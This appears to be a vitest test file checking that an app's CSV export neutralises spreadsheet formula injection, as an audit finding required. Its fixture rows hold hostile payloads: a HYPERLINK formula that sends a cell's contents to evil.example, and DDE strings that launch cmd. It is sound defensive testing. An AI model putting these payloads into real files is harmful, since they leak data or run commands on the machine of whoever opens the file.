import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startJsonServer } from '../proxy/start-json-server.ts';
import { readCsv } from '../read-csv.ts';
import { addEndpoint, addServer, callApi } from '../server-fixtures.ts';
import { createTenant, createTestApp, type TestApp, type TestUser } from '../test-app.ts';

// Finding 4 of the third pass: 'Export CSV' wrote cells starting with =, +, -, @, tab or CR as they
// came, so a value an upstream (or whoever writes into it) chose ran as a formula in the spreadsheet
// of whoever opened the file. OWASP's rule now holds: such a text cell starts with ', and a plain
// number, negative ones included, stays a number. (The audit log's CSV, built in the browser through
// the same rule, is tested in apps/web/src/features/admin-home/utils/audit-csv.test.ts.)
const rows = [
  { id: 1, value: '=HYPERLINK("https://evil.example/?"&A1,"Open")', amount: -42 },
  { id: 2, value: "+1+cmd|' /C calc'!A0", amount: 3.5 },
  { id: 3, value: '-2+3', amount: 0 },
  { id: 4, value: "@SUM(1+1)*cmd|' /C calc'!A0", amount: -0.25 },
  { id: 5, value: '\t=1+1', amount: 1e21 },
  { id: 6, value: '\r=1+1', amount: 7 },
  { id: 7, value: '-42', amount: 8 },
  { id: 8, value: '-0.5e3', amount: 9 },
  { id: 9, value: 'plain, "quoted" = text', amount: 10 },
];

describe('a CSV export of values a spreadsheet would run', () => {
  let test: TestApp;
  let jsonServer: Awaited<ReturnType<typeof startJsonServer>>;
  let admin: TestUser;
  let viewId: string;

  beforeAll(async () => {
    jsonServer = await startJsonServer({ rows });
    test = await createTestApp({ UPSTREAM_ALLOW: '127.0.0.1' });
    ({ user: admin } = await createTenant(test, ['admin', 'designer']));
    const server = await addServer(test, admin.cookie, {
      settings: { url: `${jsonServer.url}/`, adapter: 'jsonserver' },
    });
    const endpoint = await addEndpoint(test, admin.cookie, server.uuid, {
      settings: { url: 'rows', response: 'list' },
    });
    const view = await callApi(test, admin.cookie, 'POST', '/api/views', {
      name: 'Formulas',
      type: 'search',
      metacontent: {
        title: 'Formulas',
        // A designer's column label is a cell of the file too.
        columns: [
          { value: 'id', label: 'Id' },
          { value: 'value', label: '=Value' },
          { value: 'amount', label: 'Amount' },
        ],
      },
      metadata: { server: server.uuid, endpoint: endpoint.uuid },
    });
    expect(view.statusCode, view.body).toBe(200);
    viewId = view.json().uuid;
  });
  afterAll(async () => {
    await test.close();
    await jsonServer.close();
  });

  it("writes every text cell a spreadsheet would run with a ' first, and plain numbers as numbers", async () => {
    const response = await callApi(test, admin.cookie, 'POST', `/api/views/${viewId}/export`, {
      orderBy: 'id',
      sort: 'asc',
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(readCsv(response.body.slice(1))).toEqual([
      ['Id', "'=Value", 'Amount'],
      ['1', '\'=HYPERLINK("https://evil.example/?"&A1,"Open")', '-42'],
      ['2', "'+1+cmd|' /C calc'!A0", '3.5'],
      ['3', "'-2+3", '0'],
      ['4', "'@SUM(1+1)*cmd|' /C calc'!A0", '-0.25'],
      ['5', "'\t=1+1", '1e+21'],
      ['6', "'\r=1+1", '7'],
      ['7', '-42', '8'],
      ['8', '-0.5e3', '9'],
      ['9', 'plain, "quoted" = text', '10'],
    ]);
  });
});
